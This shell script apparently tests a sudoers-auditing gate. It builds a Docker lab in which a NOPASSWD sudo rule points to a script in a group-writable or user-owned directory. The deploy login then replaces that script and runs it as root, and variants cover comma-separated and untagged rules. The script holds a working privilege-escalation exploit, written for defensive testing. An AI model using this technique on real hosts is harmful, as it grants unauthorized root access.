#!/bin/sh
# An allowed sudo rule whose *command* is in the deploy team's directory (the admin's precondition, as attack8/9's:
# install -d -m 2775 -o root -g deployer /srv/tools; the team's restart script allowed for the deploy login).
# The gate's login cannot read sudoers, so it never lstats the command; the root collector does (mapped), but the
# command's rule judged the login's snapshot only. The deploy login replaces the script and runs it through sudo.
# Usage: attack10/atk_sudo_command.sh /tmp/atk10 [dir|file|comma]   (BASE=1: the code at main 13ee532)
#   dir:   /srv/tools 2775 root:deployer, the script root's (0755 root:root)
#   file:  /srv/tools 0755 root:root, the script the deploy login's (0755 deployer:deployer)
#   comma: as file, the rule with a second command after a comma ("/srv/tools/restart-app, /usr/bin/id")
#   tag:   as file, no space after the tag ("NOPASSWD:/srv/tools/restart-app"; HEAD=DIR: the gate at that code)
set -eu
W=${1:-/tmp/atk10}; KIND=${2:-dir}; CT=$(cat $W/ct)
RULE="deployer ALL=(root) NOPASSWD: /srv/tools/restart-app"
[ "$KIND" = comma ] && RULE="$RULE, /usr/bin/id"
[ "$KIND" = tag ] && RULE="deployer ALL=(root) NOPASSWD:/srv/tools/restart-app"  # (sudoers: no space after a tag)
case $KIND in
  dir) SETUP="install -d -m 2775 -o root -g deployer /srv/tools; printf '#!/bin/sh\n/usr/sbin/apache2ctl graceful\n' > /srv/tools/restart-app; chmod 755 /srv/tools/restart-app";;
  *) SETUP="install -d -m 0755 /srv/tools; printf '#!/bin/sh\n/usr/sbin/apache2ctl graceful\n' > /srv/tools/restart-app; chown deployer:deployer /srv/tools/restart-app; chmod 755 /srv/tools/restart-app";;
esac
docker exec $CT sh -c "$SETUP; rm -f /tmp/root-ran; echo '$RULE' > /etc/sudoers.d/deploy-restart; chmod 440 /etc/sudoers.d/deploy-restart; visudo -cq"
sed -i '/^allow_sudo/d' $W/targets.toml
sed -i "/^\[targets.ro\]/a allow_sudo = [\"$RULE\"]" $W/targets.toml
echo "--- the admin's rule (allowed in targets.toml):"; docker exec $CT cat /etc/sudoers.d/deploy-restart; docker exec $CT ls -la /srv/tools
echo "--- the gate (read-only, as admin), before the deploy login acts:"
PYTHONPATH=${HEAD:-} $W/gate.sh 2>&1 | grep -E "^FAILED|passed|failed|^  - /etc/sudoers" | cut -c1-400 || true
echo "--- the deploy login replaces the script and runs it:"
ssh -F $W/ssh_config deployer 'if [ -w /srv/tools/restart-app ]; then printf "#!/bin/sh\nid > /tmp/root-ran\n" > /srv/tools/restart-app; else printf "#!/bin/sh\nid > /tmp/root-ran\n" > /srv/tools/.n && chmod 755 /srv/tools/.n && mv -f /srv/tools/.n /srv/tools/restart-app; fi; sudo -n /srv/tools/restart-app; cat /tmp/root-ran'
[ -n "${KEEP:-}" ] || { docker exec $CT sh -c 'rm -rf /srv/tools /tmp/root-ran /etc/sudoers.d/deploy-restart'; sed -i '/^allow_sudo/d' $W/targets.toml; }
